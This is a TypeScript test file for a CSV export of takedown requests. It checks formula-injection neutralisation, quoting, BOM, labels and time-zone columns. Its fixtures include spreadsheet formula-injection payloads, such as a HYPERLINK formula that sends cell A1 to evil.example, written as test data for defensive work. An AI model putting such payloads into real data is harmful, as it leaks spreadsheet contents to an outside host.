import { describe, expect, it } from 'vitest';
import { makeRecord } from '../../test/unit/records.ts';
import { CSV_COLUMNS, csvRow, neutralise, requestsCsv } from './csv.ts';

/** A small RFC 4180 reader: what a spreadsheet sees in each cell. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += ch;
  }
  return rows;
}

describe('CSV export', () => {
  it('neutralises every cell a spreadsheet would run as a formula, and nothing else', () => {
    expect(neutralise('=HYPERLINK("https://evil.example","点击")')).toBe(`'=HYPERLINK("https://evil.example","点击")`);
    expect(neutralise('+1')).toBe("'+1");
    expect(neutralise('-2')).toBe("'-2");
    expect(neutralise('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(neutralise('\t=1')).toBe("'\t=1");
    expect(neutralise('\r=1')).toBe("'\r=1");
    expect(neutralise('Example 经典帆布双肩包 = 1+1')).toBe('Example 经典帆布双肩包 = 1+1');
    expect(neutralise('199.00')).toBe('199.00');
  });

  it('quotes every cell, doubles quotes and keeps commas and line breaks inside the cell', () => {
    expect(csvRow(['a "quoted" word', 'x,y', 'line1\nline2', null])).toBe('"a ""quoted"" word","x,y","line1\nline2",""\r\n');
  });

  it('writes a UTF-8 BOM, the header and one row per request, readable back cell for cell', () => {
    const hostile = makeRecord({
      listing: { itemId: '600000000777', title: '=HYPERLINK("https://evil.example/?"&A1,"Example 经典帆布双肩包")', seller: { name: '@SUM(1+1)', id: null, shopUrl: null }, price: { amount: '199.00', currency: 'CNY' } },
      caseId: 'TD-2026-000001',
      caseStatus: 'in_review',
      receivedAt: '2026-11-20T02:00:00.000Z',
      slaDueAt: '2026-11-21T02:00:00.000Z',
    });
    const plain = makeRecord({ listing: { title: 'Example 经典帆布双肩包, "官方" 正品', seller: { name: 'Example官方旗舰店', id: null, shopUrl: null } } });
    const text = requestsCsv([hostile, plain], { paused: false });
    expect(text.startsWith('\uFEFF')).toBe(true);
    const rows = parseCsv(text.slice(1));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const cell = (row: number, col: (typeof CSV_COLUMNS)[number]) => rows[row]![CSV_COLUMNS.indexOf(col)];
    expect(cell(1, 'client_request_id')).toBe(hostile.clientRequestId);
    expect(cell(1, 'item_id')).toBe('600000000777');
    expect(cell(1, 'title')).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Example 经典帆布双肩包")`);
    expect(cell(1, 'seller')).toBe("'@SUM(1+1)");
    expect([cell(1, 'price'), cell(1, 'currency'), cell(1, 'state'), cell(1, 'case_id')]).toEqual(['199.00', 'CNY', 'in_review', 'TD-2026-000001']);
    expect([cell(1, 'received_at'), cell(1, 'received_at_local'), cell(1, 'time_zone')]).toEqual(['2026-11-20T02:00:00.000Z', '2026-11-20 10:00:00 +08:00', 'Asia/Shanghai']);
    expect(cell(2, 'title')).toBe('Example 经典帆布双肩包, "官方" 正品');
    expect(cell(2, 'seller')).toBe('Example官方旗舰店');
    expect(cell(2, 'state')).toBe('queued');
    expect(rows).toHaveLength(3);
  });

  it('gives a lawyer the labels beside the codes, the note, outcome, resolution, seller id and shop, evidence hashes and gaps, times in UTC and in the marketplace zone', () => {
    const sha = 'a'.repeat(64);
    const done = makeRecord({
      listing: { marketplace: 'lazada', url: 'https://www.lazada.co.th/products/x-i9.html', seller: { name: 'Shop TH', id: '1001', shopUrl: 'https://www.lazada.co.th/shop/th/' } },
      note: 'Logo copied',
      caseId: 'TD-2026-000009',
      caseStatus: 'reinstated',
      respondBy: '2026-11-26T17:00:00.000Z',
      resolvedAt: '2026-11-27T03:30:00.000Z',
      resolution: { code: 'reinstated', message: 'The listing was reinstated after the counter-notice.' },
      evidence: [{ sha256: sha, kind: 'screenshot', mediaType: 'image/png', bytes: 3, capturedAt: '2026-11-20T01:00:00.000Z' }],
      evidenceGaps: [{ code: 'no_archive', message: 'no page archive: capture refused' }],
    });
    const labels = { state: (c: string) => `S(${c})`, reason: (c: string) => `R(${c})`, marketplace: (c: string) => `M(${c})` };
    const rows = parseCsv(requestsCsv([done], { paused: false, labels }).slice(1));
    const cell = (col: (typeof CSV_COLUMNS)[number]) => rows[1]![CSV_COLUMNS.indexOf(col)];
    expect([cell('state'), cell('state_label'), cell('reason_label'), cell('marketplace_label')]).toEqual(['reinstated', 'S(reinstated)', 'R(counterfeit)', 'M(lazada)']);
    expect([cell('note'), cell('outcome'), cell('resolution_message')]).toEqual(['Logo copied', 'reinstated', 'The listing was reinstated after the counter-notice.']);
    expect([cell('seller_id'), cell('shop_url')]).toEqual(['1001', 'https://www.lazada.co.th/shop/th/']);
    expect([cell('time_zone'), cell('respond_by'), cell('respond_by_local')]).toEqual(['Asia/Bangkok', '2026-11-26T17:00:00.000Z', '2026-11-27 00:00:00 +07:00']);
    expect([cell('resolved_at'), cell('resolved_at_local')]).toEqual(['2026-11-27T03:30:00.000Z', '2026-11-27 10:30:00 +07:00']);
    expect(cell('evidence_sha256')).toBe(`screenshot:${sha}`);
    expect(cell('evidence_gaps')).toBe('no page archive: capture refused');
  });

  it('shows waiting requests as needing attention while the queue is paused, as the popup does', () => {
    const rows = parseCsv(requestsCsv([makeRecord()], { paused: true }).slice(1));
    expect(rows[1]![CSV_COLUMNS.indexOf('state')]).toBe('attention');
  });
});
